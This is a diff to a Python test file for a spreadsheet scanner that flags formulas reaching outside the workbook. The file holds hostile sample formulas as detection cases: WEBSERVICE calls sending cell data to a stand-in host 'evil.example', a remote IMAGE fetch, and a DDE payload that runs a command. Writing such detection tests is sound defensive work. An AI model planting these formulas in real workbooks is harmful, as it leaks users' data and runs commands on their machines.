@@ -136,6 +136,7 @@ OUTSIDE = {
     'WEBSERVICE("http://evil.example/?"&A1)': "WEBSERVICE",
     '_xlfn.WEBSERVICE("http://evil.example")': "WEBSERVICE",
     'webservice("x")': "WEBSERVICE",
+    "'1.村道'!$G$7&WEBSERVICE('2.河道'!A1)": "WEBSERVICE",
     'IF(A1=1,RTD("prog.id","",A1),0)': "RTD",
     '_xlfn.IMAGE("https://evil.example/a.png")': "IMAGE",
     "cmd|'/c calc.exe'!A0": "DDE",
@@ -200,6 +201,13 @@ def test_one_formula_that_reaches_outside_is_found_among_many_alike_however_ofte
     hostile = harmless.replace("SUM(B321:C321)", "rtd(B321:C321)")
     for data, told in ((harmless, []), (hostile, ["A321"]), (harmless, []), (hostile, ["A321"])):
         assert [note.cell for note in foreign_contents(Workbook.load(small(data)))] == told
+
+
+def test_a_link_that_was_let_pass_on_a_sheet_of_ours_is_told_on_any_other() -> None:
+    data = small('<row r="2"><c r="C2"><f>HYPERLINK(A1,"看")</f><v>1</v></c></row>')
+    for _ in range(2):
+        assert foreign_contents(Workbook.load(data), lambda _: True) == ()
+        assert [note.cell for note in foreign_contents(Workbook.load(data))] == ["C2"]
 
 
 def test_a_million_of_one_kind_are_told_by_the_first_few() -> None:
